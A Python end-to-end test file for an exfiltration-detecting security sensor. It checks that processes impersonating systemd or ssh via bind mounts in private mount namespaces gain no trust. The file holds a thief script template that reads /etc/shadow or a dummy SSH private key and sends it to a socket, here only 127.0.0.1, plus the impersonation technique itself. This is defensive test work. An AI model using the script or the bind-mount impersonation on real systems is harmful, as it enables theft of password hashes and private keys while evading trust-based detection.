#!/usr/bin/env python3
"""End-to-end tests of trust that cannot be borrowed (issue 13, "Ancestry
explains; it does not excuse" and "Identity is the real file, not a string"):
real kernel, real processes, private mount namespaces, loopback only.

  trust_test.py BARBWIRE SOURCE_ROOT CASE

Each CASE is one function below; meson registers each as its own test in suite
'e2e' (named 'e2e trust_CASE'). They need root and a build with the sensor;
otherwise they exit 77 (skip), or 1 when CI=true.

Every case runs the sensor with its built-in rules (no --config), records a
trace, and checks the alert the sensor printed (JSON) and, for the quiet
counterpart, the trace's proof that the work was done:

  lineage_systemd      a lineage of `systemd`-named processes (a copy of bash at
                       /opt/<tmp>/systemd as grandparent, a copy of bash
                       bind-mounted over /usr/lib/systemd/systemd in a private
                       mount namespace as parent) runs python reading
                       /etc/shadow and connecting to 127.0.0.1: the alert is
                       printed, and its breakdown says why neither lowering
                       applied (not unmodified; not the host's file).
  bind_mounted_ssh     a copy of python bind-mounted over /usr/bin/ssh (trusted
                       for ssh keys by the built-in rules) in a private mount
                       namespace reads a key of a temporary HOME and connects to
                       127.0.0.1: alert, with process.trust saying the entry was
                       refused (not the host's file). In the same sensor run the
                       genuine /usr/bin/ssh loads its key (-i) and connects to
                       the same listener: quiet, and the trace shows its open of
                       the key and its connect.

Dummy secrets only; nothing is sent anywhere but 127.0.0.1.
"""
import os
import shutil
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness as h  # noqa: E402
from harness import check  # noqa: E402

BW = ""
ROOT = ""

SHADOW = "/etc/shadow"
SYSTEMD = "/usr/lib/systemd/systemd"
SSH = "/usr/bin/ssh"
SETTLE = 1.5  # after the attack, for the sensor to print what it will print

# A dummy key (not a real one) for the thief.
DUMMY_KEY = ("-----BEGIN OPENSSH PRIVATE KEY-----\n"
             "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
             "YmFyYndpcmUtdHJ1c3QtZTJlLWR1bW15LWtleS1ib2R5LW5vdC1hLXJlYWwtb25lLS0tLQ\n"
             "-----END OPENSSH PRIVATE KEY-----\n")

# python: read a file, connect to 127.0.0.1:PORT and send what was read.
THIEF = """import socket, sys
data = open({path!r}, 'rb').read()
s = socket.create_connection(('127.0.0.1', {port}))
try:
    s.sendall(data)
except OSError:
    pass
s.close()
print('sent', len(data), flush=True)
"""


def need(path):
    if not os.path.exists(path):
        h.skip_or_fail(f"{path} is not installed (this test needs the real file)")
    return path


def need_tool(name):
    p = shutil.which(name, path="/usr/bin:/bin:/usr/sbin:/sbin")
    if p is None:
        h.skip_or_fail(f"{name} is not installed (util-linux / mount)")
    return p


def parts(a):
    return {p["reason"]: p["points"] for p in a.get("score_breakdown") or []}


def summed(a):
    return sum(p["points"] for p in a.get("score_breakdown") or [])


def case_lineage_systemd():
    """A lineage of systemd-named processes cannot silence a shadow read."""
    h.require_root_and_sensor()
    need(SYSTEMD)
    unshare, mount = need_tool("unshare"), need_tool("mount")
    bash = os.path.realpath(shutil.which("bash") or "/bin/bash")
    py = os.path.realpath(need("/usr/bin/python3"))  # Debian's: its stdlib is found from /usr/bin
    paths = {}

    def prepare(ws):
        # The grandparent: a copy of bash named systemd under /opt (a system
        # directory, so the name rule matches; no package ships it).
        opt = tempfile.mkdtemp(prefix="barbwire-e2e-trust-", dir="/opt")
        ws.defer(lambda: shutil.rmtree(opt, ignore_errors=True))
        paths["gp"] = os.path.join(opt, "systemd")
        shutil.copy2(bash, paths["gp"])
        os.chmod(paths["gp"], 0o755)
        # The parent: another copy of bash, bind-mounted over the real systemd
        # in a private mount namespace.
        paths["copy"] = ws.path("bash-copy")
        shutil.copy2(bash, paths["copy"])
        os.chmod(paths["copy"], 0o755)
        return None

    with h.scenario(BW, prepare, record=True, listener="tcp") as (ws, sensor, lst):
        child = h.write_file(ws.path("child.py"), THIEF.format(path=SHADOW, port=lst.port))
        p_sh = h.write_file(ws.path("p.sh"), f"{py} -I -S {child}; true\n")
        gp_sh = h.write_file(ws.path("gp.sh"), f"{SYSTEMD} {p_sh}; true\n")
        ns_sh = h.write_file(ws.path("ns.sh"),
                             f"set -e\n{mount} --bind {paths['copy']} {SYSTEMD}\n{paths['gp']} {gp_sh}; true\n")
        sh = h.Shell(f"{unshare} -m --propagation private {bash} {ns_sh}")
        out, err = sh.wait(60)
        check("sent" in out, f"the child did not send what it read: {out!r} {err!r}")
        check(lst.peers, "the listener heard from nobody")
        got = sensor.wait_for(lambda a: h.in_session(a, sh.leader) and a.get("file", {}).get("path") == SHADOW)
        time.sleep(SETTLE)
        sensor.stop_cleanly()

        check(got, f"no alert for the shadow read under a systemd-named lineage; alerts: "
                   f"{sensor.alerts_in_session(sh.leader)}\nstderr:\n{sensor.stderr()}")
        a = got[0]
        print("alert breakdown:", a.get("score_breakdown"))
        check(a["file"]["category"] == "password hashes", f"category {a['file']['category']!r}")
        check(a["destination"]["addr"] == "127.0.0.1" and a["destination"]["port"] == lst.port,
              f"destination {a['destination']}")
        check((a.get("parent") or {}).get("comm") == "systemd" and (a.get("parent") or {}).get("exe") == SYSTEMD,
              f"the parent is not the bind-mounted systemd: {a.get('parent')}")
        check((a.get("grandparent") or {}).get("exe") == paths["gp"],
              f"the grandparent is not the /opt copy: {a.get('grandparent')}")
        bd = parts(a)
        check(summed(a) == a["score"], f"the breakdown does not sum to the score: {a}")
        check(not any(v < 0 for k, v in bd.items() if "systemd" in k), f"a systemd ancestor lowered the score: {bd}")
        check(a["score"] >= 5, f"score {a['score']}, expected the full 5 of password hashes: {bd}")
        check(any(k.startswith("parent named systemd not verified: not the host's file at " + SYSTEMD) and v == 0
                  for k, v in bd.items()),
              f"no part says the parent's lowering was refused for not being the host's file: {bd}")
        check(any(k.startswith("grandparent named systemd not verified: not verified unmodified") and v == 0
                  for k, v in bd.items()),
              f"no part says the grandparent's lowering was refused for no package: {bd}")
        ev = h.read_trace(ws.trace)
        execs = [e for e in ev if e.get("kind") == "exec" and e.get("exe") == SYSTEMD and e.get("comm") == "systemd"]
        check(execs and all(e.get("exe_host_file") is False for e in execs),
              f"trace: the bind-mounted systemd's exec is not marked exe_host_file false: {execs}")


def case_bind_mounted_ssh():
    """A program bind-mounted over a trusted path is not trusted; the genuine one is."""
    h.require_root_and_sensor()
    need(SSH)
    keygen = need("/usr/bin/ssh-keygen")
    unshare, mount = need_tool("unshare"), need_tool("mount")
    bash = os.path.realpath(shutil.which("bash") or "/bin/bash")
    py = os.path.realpath(need("/usr/bin/python3"))  # Debian's: its stdlib is found from /usr/bin
    paths = {}

    def prepare(ws):
        home = ws.path("home")
        os.makedirs(os.path.join(home, ".ssh"), mode=0o700)
        paths["home"] = os.path.realpath(home)
        paths["stolen"] = h.write_file(os.path.join(paths["home"], ".ssh", "id_rsa"), DUMMY_KEY, mode=0o600)
        paths["fake"] = ws.path("fake-ssh")
        shutil.copy2(py, paths["fake"])  # a copy of python, root-owned 0755, like the real ssh
        os.chmod(paths["fake"], 0o755)
        return None

    with h.scenario(BW, prepare, record=True, listener="tcp") as (ws, sensor, lst):
        env = {"PATH": "/usr/bin:/bin:/usr/sbin:/sbin", "LANG": "C", "HOME": paths["home"]}
        # The genuine ssh: a real key of its own (ssh-keygen is trusted for keys
        # too), loaded with -i before it connects to the listener, which closes.
        key = os.path.join(paths["home"], ".ssh", "id_ed25519")
        subprocess.run([keygen, "-q", "-t", "ed25519", "-N", "", "-C", "barbwire-e2e", "-f", key], check=True,
                       env=env, stdin=subprocess.DEVNULL, capture_output=True)
        genuine = h.Shell(f"{SSH} -F /dev/null -i {key} -o BatchMode=yes -o StrictHostKeyChecking=no "
                          f"-o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 -p {lst.port} "
                          f"barbwire@127.0.0.1 true; exit 0", env=env)
        out, err = genuine.wait(60)
        print(f"genuine ssh: {(out + err).strip()[-300:]!r}")
        # The impostor: python bind-mounted over /usr/bin/ssh, run by that name.
        thief = h.write_file(ws.path("thief.py"), THIEF.format(path=paths["stolen"], port=lst.port))
        ns_sh = h.write_file(ws.path("ns.sh"), f"set -e\n{mount} --bind {paths['fake']} {SSH}\n"
                                               f"{SSH} -I -S {thief}; true\n")
        impostor = h.Shell(f"{unshare} -m --propagation private {bash} {ns_sh}", env=env)
        out, err = impostor.wait(60)
        check("sent" in out, f"the impostor did not send the key: {out!r} {err!r}")
        got = sensor.wait_for(lambda a: h.in_session(a, impostor.leader))
        time.sleep(SETTLE)
        sensor.stop_cleanly()

        check(got, f"no alert for the bind-mounted ssh reading a key; stderr:\n{sensor.stderr()}")
        a = got[0]
        print("alert process:", a.get("process"))
        check(a["process"]["exe"] == SSH, f"the sender's exe is {a['process']['exe']!r}, expected {SSH}")
        check(a["file"]["path"] == paths["stolen"] and a["file"]["category"] == "ssh private keys",
              f"file {a['file']}")
        trust = a["process"].get("trust") or {}
        check(trust.get("host_file") is False, f"process.trust.host_file is not false: {trust}")
        check((trust.get("refused") or "").startswith(
            f"trusted_binaries entry {SSH} refused: not the host's file at {SSH}"),
            f"process.trust.refused does not say why the trust was refused: {trust}")

        # The genuine ssh: quiet, and it really opened its key and connected.
        check(not sensor.alerts_in_session(genuine.leader),
              f"the genuine ssh alerted: {sensor.alerts_in_session(genuine.leader)}")
        ev = h.read_trace(ws.trace)
        ssh_execs = [e for e in ev if e.get("kind") == "exec" and e.get("exe") == SSH]
        real = [e for e in ssh_execs if e.get("exe_host_file") is True]
        check(real, f"trace: no exec of the host's {SSH} marked exe_host_file true: {ssh_execs}")
        check(all(e.get("exe_package") for e in real), f"trace: the genuine ssh has no package: {real}")
        pids = {e["pid"] for e in real}
        opened = [e for e in ev if e.get("kind") == "open" and e.get("pid") in pids and e.get("path") == key]
        check(opened, f"trace: the genuine ssh never opened its key {key}")
        conns = [e for e in ev if e.get("kind") in ("connect", "send") and e.get("pid") in pids
                 and e.get("addr") == "127.0.0.1" and e.get("port") == lst.port]
        check(conns, f"trace: the genuine ssh never connected to 127.0.0.1:{lst.port}")
        fakes = [e for e in ssh_execs if e.get("exe_host_file") is False]
        check(fakes, f"trace: the bind-mounted ssh's exec is not marked exe_host_file false: {ssh_execs}")


if __name__ == "__main__":
    sys.exit(h.run_cases(globals(), __doc__, "trust_test.py"))
